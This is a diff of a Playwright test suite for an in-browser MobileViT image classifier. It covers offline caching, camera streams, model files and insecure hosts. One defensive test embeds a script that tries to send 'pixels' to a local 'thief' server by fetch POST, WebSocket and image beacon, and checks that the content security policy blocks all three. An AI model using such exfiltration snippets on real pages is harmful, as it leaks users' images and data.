@@ -5,11 +5,21 @@ import http.server
 import re
 import shutil
 import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
 
 import pytest
 from PIL import Image
 
 from convert.server import serving
+from mobilevit_keras.description import (
+    DESCRIPTION_FILE,
+    compact,
+    read_archive,
+    read_description,
+    write_archive,
+)
 from tests.run.browser_page import (
     choose_runtime,
     encoded,
@@ -18,7 +28,7 @@ from tests.run.browser_page import (
     settled,
     top_five,
 )
-from tests.run.conftest import CLASS_NAMES
+from tests.run.conftest import CLASS_NAMES, OTHER_HOST
 
 
 def open_app(page) -> None:
@@ -233,49 +243,222 @@ def test_lost_graphics_device(page, exported):
     assert_next_prediction_works(page, exported)
 
 
-def test_a_host_without_isolation_headers_means_one_thread(browser, exported):
-    """Any static web host will do."""
+@contextmanager
+def plain_server(folder: Path) -> Iterator[str]:
+    """Any static web host: Python's own, which sends no header of ours."""
 
     class Quiet(http.server.SimpleHTTPRequestHandler):
         def log_message(self, *_):
             pass
 
-    handler = functools.partial(Quiet, directory=exported.site)
+    handler = functools.partial(Quiet, directory=folder)
     with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
         threading.Thread(target=server.serve_forever, daemon=True).start()
-        context = browser.new_context(base_url=f"http://127.0.0.1:{server.server_address[1]}")
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+        server.shutdown()
+
+
+def test_a_host_without_isolation_headers_means_one_thread(browser, exported):
+    with plain_server(exported.site) as url:
+        context = browser.new_context(base_url=url)
         page = context.new_page()
         page.goto("/")
         page.locator("#status", has_text="LiteRT.js, WebAssembly, 1 thread").wait_for()
         assert_next_prediction_works(page, exported)
         context.close()
-        server.shutdown()
 
 
-def wait_until_kept(page, exported, cache_name: str) -> None:
+def test_plain_http_from_another_device(browser, exported):
+    """Without a secure context: no service worker, threads, camera or `crypto.randomUUID`."""
+    with serving(exported.site) as url:
+        context = browser.new_context(base_url=url.replace("127.0.0.1", OTHER_HOST))
+        page = context.new_page()
+        open_app(page)
+        assert not page.evaluate("isSecureContext")
+        assert "1 thread" in page.locator("#status").inner_text()
+        assert_next_prediction_works(page, exported)
+        page.click("#copy")
+        page.locator("#message", has_text="Copied").wait_for()
+        page.click("#camera")
+        assert "https" in error_text(page)
+        context.close()
+
+
+@pytest.mark.parametrize("broken", ["Worker", "crypto.getRandomValues"])
+def test_a_start_that_throws_is_said(page, broken):
+    page.add_init_script(f"{broken} = function () {{ throw new Error('broken'); }}")
+    page.goto("/")
+    assert "broken" in error_text(page)
+    assert "could not be loaded" in page.locator("#status").inner_text()
+
+
+def streams_on(page) -> int:
+    """Cameras that the page has opened and not turned off."""
+    return page.evaluate(
+        "streams.filter((s) => s.getTracks().some((t) => t.readyState === 'live')).length"
+    )
+
+
+def count_streams(page) -> None:
+    page.add_init_script(
+        """streams = [];
+        const media = navigator.mediaDevices;
+        const original = media.getUserMedia.bind(media);
+        media.getUserMedia = async (...options) => {
+          const stream = await original(...options);
+          streams.push(stream);
+          return stream;
+        };"""
+    )
+
+
+def test_a_fast_hand_leaves_no_camera_on(page, exported):
+    count_streams(page)
+    open_app(page)
+    # Within one task, as no person could.
+    page.evaluate(
+        """() => {
+          for (const id of ["live", "live", "camera", "live", "stop", "camera", "camera"])
+            document.getElementById(id).click();
+        }"""
+    )
+    page.locator("#capture:enabled").wait_for()
+    assert streams_on(page) == 1
+    page.click("#stop")
+    assert streams_on(page) == 0
+    assert page.locator("#rate").is_hidden()
+    assert_next_prediction_works(page, exported)
+
+
+def test_a_camera_that_is_unplugged(page, exported):
+    count_streams(page)
+    open_app(page)
+    page.click("#live")
+    page.locator(".result .class").first.wait_for()
+    # What the browser does then; a page's own `stop` sends no event.
+    page.evaluate(
+        "streams[0].getTracks().forEach((track) => { track.dispatchEvent(new Event('ended')); })"
+    )
+    assert "disconnected" in error_text(page)
+    assert streams_on(page) == 0
+    assert_next_prediction_works(page, exported)
+
+
+def test_a_hidden_page_turns_the_camera_off(page):
+    count_streams(page)
+    open_app(page)
+    page.click("#live")
+    page.locator(".result .class").first.wait_for()
+    set_hidden = """(hidden) => {
+      Object.defineProperty(document, "hidden", { value: hidden, configurable: true });
+      document.dispatchEvent(new Event("visibilitychange"));
+    }"""
+    page.evaluate(set_hidden, True)
+    assert streams_on(page) == 0
+    page.evaluate(set_hidden, False)
+    page.locator("#rate", has_text="frames/s").wait_for()
+    assert streams_on(page) == 1
+
+
+def test_another_image_while_the_first_is_predicted(page, exported):
+    open_app(page)
+    for button in page.locator("#samples button").all()[:6]:
+        button.click()
+    page.locator("#samples li:nth-child(6) button[aria-pressed=true]").wait_for()
+    wanted = top_five(exported.keras_probabilities(exported.samples[5:6])[0], CLASS_NAMES)
+    assert settled(page)[0] == (wanted[0][0], pytest.approx(wanted[0][1], abs=1e-3))
+    assert "Predicting" not in page.locator("#results").inner_text()
+
+
+def test_a_model_file_dropped_onto_the_page(page, exported, tmp_path):
+    """It says what it is itself; nothing of it is fetched."""
+    path = tmp_path / "mine.tflite"
+    shutil.copyfile(exported.run_dir / "model.tflite", path)
+    names = [f"mine {index}" for index in range(len(CLASS_NAMES))]
+    description = read_description(exported.run_dir / "model.tflite")
+    description |= {"schema": 1, "class_names": names}
+    write_archive(path, read_archive(path) | {DESCRIPTION_FILE: compact(description)})
+    open_app(page)
+    page.context.set_offline(True)
+    give_file(page, path.read_bytes(), "", "drop", path.name)
+    page.locator("#status", has_text="mine.tflite: Runs on").wait_for()
+    page.context.set_offline(False)
+    page.locator("#samples button").first.click()
+    probabilities = exported.keras_probabilities(exported.samples[:1])[0]
+    assert settled(page)[0][0] == top_five(probabilities, tuple(names))[0][0]
+    assert page.locator("#models input:checked").count() == 1
+    # One without a description says so.
+    write_archive(path, {"labels.txt": b"a"})
+    give_file(page, path.read_bytes(), "", "drop", "other.tflite")
+    assert "other.tflite does not say what it recognises" in error_text(page)
+
+
+LEAKS = """async (address) => {
+  const violations = [];
+  self.addEventListener("securitypolicyviolation", (event) => violations.push(event.blockedURI));
+  const outcomes = [];
+  try { await fetch(address, { method: "POST", body: "pixels" }); outcomes.push("fetch"); } catch {}
+  try { new WebSocket(address.replace("http", "ws")); } catch {}
+  if (self.document) {
+    const image = new Image();
+    image.src = address + "?pixels";
+    await new Promise((done) => { image.onload = image.onerror = done; });
+  }
+  await new Promise((done) => setTimeout(done, 100));
+  return [outcomes, violations.length > 0];
+}"""
+
+
+@pytest.mark.parametrize("host", ["own server", "any server"])
+def test_images_cannot_leave(browser, exported, host):
+    """Neither the page nor its worker reaches another host, even where headers are missing."""
+    received = []
+
+    class Thief(http.server.BaseHTTPRequestHandler):
+        def handle_one_request(self):
+            received.append(self.rfile.readline())
+
+    with (
+        http.server.ThreadingHTTPServer(("127.0.0.1", 0), Thief) as thief,
+        serving(exported.site) if host == "own server" else plain_server(exported.site) as url,
+    ):
+        threading.Thread(target=thief.serve_forever, daemon=True).start()
+        context = browser.new_context(base_url=url)
+        page = context.new_page()
+        open_app(page)
+        address = f"http://127.0.0.1:{thief.server_address[1]}/"
+        for where in (page, own_worker(page)):
+            assert where.evaluate(LEAKS, address) == [[], True]
+        assert received == []
+        context.close()
+        thief.shutdown()
+
+
+def wait_until_kept(page, exported, version: str = "") -> None:
     """Waits until the service worker answers for the page and holds all that it needs offline."""
     model = exported.index()[0]["files"]["tflite"]
     # Not `wait_for_function`: to it the promise of an answer is an answer.
     page.evaluate(
-        """async ([prefix, ...paths]) => {
+        """async ([version, ...paths]) => {
+          const prefix = `mobilevit:${encodeURIComponent(new URL(document.baseURI).pathname)}:`;
           const isKept = async () => {
             const registration = await navigator.serviceWorker.getRegistration();
             const { active, installing, waiting } = registration ?? {};
             if (active?.state !== "activated" || installing || waiting) return false;
             if (navigator.serviceWorker.controller !== active) return false;
-            const names = await caches.keys();
-            if (names.length !== 1 || !names[0].startsWith(prefix)) return false;
+            const names = (await caches.keys()).filter((name) => name.startsWith(prefix + version));
+            if (names.length !== 1) return false;
             const cache = await caches.open(names[0]);
             const held = (await cache.keys()).map(({ url }) => url);
             return paths.every((path) => held.some((url) => url.endsWith(path)));
           };
-          const end = performance.now() + 60_000;
+          const end = performance.now() + 30_000;
           while (!(await isKept())) {
-            if (performance.now() > end) throw new Error("not kept within a minute");
+            if (performance.now() > end) throw new Error("not kept in time");
             await new Promise((done) => setTimeout(done, 50));
           }
         }""",
-        arg=[cache_name, model, "samples/00.png", ".wasm"],
+        arg=[version, model, "samples/00.png", ".wasm"],
     )
 
 
@@ -292,22 +475,99 @@ def test_works_without_a_connection_after_the_first_load(browser, exported):
     page = context.new_page()
     with serving(exported.site) as url:
         page.goto(url)
-        wait_until_kept(page, exported, "mobilevit-")
+        wait_until_kept(page, exported)
     # The server is gone.
     assert_works_offline(page, url, exported)
     context.close()
 
 
+def deploy(site: Path, version: str) -> None:
+    """Another version of the application: other scripts under other names."""
+    worker = site / "service_worker.js"
+    text = re.sub(r"\"([0-9a-f]{12}|next)\"", f'"{version}"', worker.read_text())
+    for path in (site / "assets").iterdir():
+        other = path.with_name(f"{path.stem}x{path.suffix}")
+        path.rename(other)
+        text = text.replace(path.name, other.name)
+        for file in (*site.glob("assets/*"), *site.glob("*.html"), *site.glob("*/index.html")):
+            file.write_text(file.read_text().replace(path.name, other.name))
+    worker.write_text(text)
+
+
 def test_a_new_version_keeps_what_works_offline(browser, exported, tmp_path):
     site = shutil.copytree(exported.site, tmp_path / "site")
-    worker = site / "service_worker.js"
     context = browser.new_context()
     page = context.new_page()
     with serving(site) as url:
         page.goto(url)
-        wait_until_kept(page, exported, "mobilevit-")
-        worker.write_text(re.sub(r"mobilevit-\w{12}", "mobilevit-next", worker.read_text()))
+        wait_until_kept(page, exported)
+        deploy(site, "next")
         page.evaluate("navigator.serviceWorker.ready.then((ready) => ready.update())")
-        wait_until_kept(page, exported, "mobilevit-next")
+        wait_until_kept(page, exported, "next")
+        # This tab is the old version's: a new worker needs a script that the host has no more.
+        own_worker(page).evaluate("self.close()")
+        page.wait_for_timeout(300)
+        assert_next_prediction_works(page, exported)
+    assert_works_offline(page, url, exported)
+    context.close()
+
+
+def test_sites_of_one_origin_keep_their_own_files(browser, exported, tmp_path):
+    """One at the root, one in a folder of it, which once shared the first one's cache."""
+    root = shutil.copytree(exported.site, tmp_path / "root")
+    shutil.copytree(exported.site, root / "b" / "models" / "site")
+    context = browser.new_context()
+    page = context.new_page()
+    with serving(root) as url:
+        inner = f"{url}b/models/site/"
+        for address in (url, inner):
+            page.goto(address)
+            wait_until_kept(page, exported)
+        # What 0.1.0 kept of the inner site, under a name without its path.
+        page.evaluate("caches.open('mobilevit-0123456789ab').then((c) => c.add('models.json'))")
+        for address, folder, version in (
+            (url, root, "next"),
+            (url, root, "last"),
+            (inner, root / "b" / "models" / "site", "next"),
+        ):
+            deploy(folder, version)
+            page.goto(address)
+            wait_until_kept(page, exported, version)
+            if folder == root:
+                assert "mobilevit-0123456789ab" in page.evaluate("caches.keys()")
+        names = page.evaluate("caches.keys()")
+        assert len(names) == 4, "each site's own and the one before"
+        assert all(name.startswith("mobilevit:") for name in names)
+    for address in (inner, url):
+        assert_works_offline(page, address, exported)
+    context.close()
+
+
+def test_errors_of_the_host_are_never_kept(browser, exported):
+    context = browser.new_context()
+    page = context.new_page()
+    with serving(exported.site) as url:
+        page.goto(url)
+        wait_until_kept(page, exported)
+    port = int(url.rsplit(":")[-1].strip("/"))
+
+    class Broken(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_error(503, "in trouble")
+
+        def log_message(self, *_):
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", port), Broken) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        assert_works_offline(page, url, exported)
+        assert page.evaluate("fetch('../samples/none.png').then((r) => r.status)") == 503
+        server.shutdown()
+    kept = """async () => {
+      const cache = await caches.open((await caches.keys())[0]);
+      const found = await Promise.all((await cache.keys()).map((key) => cache.match(key)));
+      return found.map(({ status }) => status);
+    }"""
+    assert set(page.evaluate(kept)) == {200}
     assert_works_offline(page, url, exported)
     context.close()
